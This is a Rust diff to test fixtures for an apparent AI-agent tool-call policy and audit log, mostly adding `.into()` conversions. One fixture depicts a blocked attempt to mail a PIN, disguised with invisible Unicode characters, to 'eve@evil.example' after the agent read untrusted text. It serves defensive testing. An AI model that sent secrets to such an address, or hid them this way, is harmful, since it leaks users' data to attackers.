@@ -71,7 +71,7 @@ fn call(number: u64, at: i64, tool: &str) -> Record {
         direction: Direction::ToServer,
         kind: FrameKind::Request,
         protocol: Some("2025-11-25".into()),
-        principal: Some(principal()),
+        principal: Some(principal().into()),
         client: None,
         server: "office".into(),
         system: None,
@@ -83,7 +83,7 @@ fn call(number: u64, at: i64, tool: &str) -> Record {
         pin: None,
         effects: BTreeSet::from([Effect::Read]),
         arguments_digest: None,
-        arguments: Some(json!({"folder": "inbox", "count": 3})),
+        arguments: Some(json!({"folder": "inbox", "count": 3}).into()),
         snapshot: Digest::of_bytes(b"first law"),
         decision: Some(decision(Decision::allow(), ("mail-read", "Agents may read mail"), &[])),
         credential: None,
@@ -115,7 +115,7 @@ fn intent(number: u64, at: i64) -> Entry {
         trace: TRACE.into(),
         task: "session-1".into(),
         at_us: NOON + at,
-        principal: principal(),
+        principal: principal().into(),
         server: "office".into(),
         method: "tools/call".into(),
         target: Some("send_mail".into()),
@@ -127,7 +127,7 @@ fn intent(number: u64, at: i64) -> Entry {
 fn denied(number: u64, at: i64) -> Record {
     let words = "sending mail is denied after reading untrusted text";
     Record {
-        arguments: Some(json!({"to": "eve@evil.example", "text": "pin\u{202e}4321\u{200b}"})),
+        arguments: Some(json!({"to": "eve@evil.example", "text": "pin\u{202e}4321\u{200b}"}).into()),
         effects: BTreeSet::from([Effect::Egress, Effect::Write]),
         decision: Some(decision(
             Decision::Deny(Reason::Forbidden),
@@ -308,7 +308,7 @@ fn each_decision_has_its_words() {
 #[test]
 fn a_narrow_terminal_and_another_day_are_respected() {
     let late = Record {
-        arguments: Some(json!({"text": "word ".repeat(15)})),
+        arguments: Some(json!({"text": "word ".repeat(15)}).into()),
         ..call(2, 86_400_000_000, "a_tool_with_quite_a_long_name_indeed")
     };
     let entries = [entry(call(1, 0, "read_mail")), entry(late)];
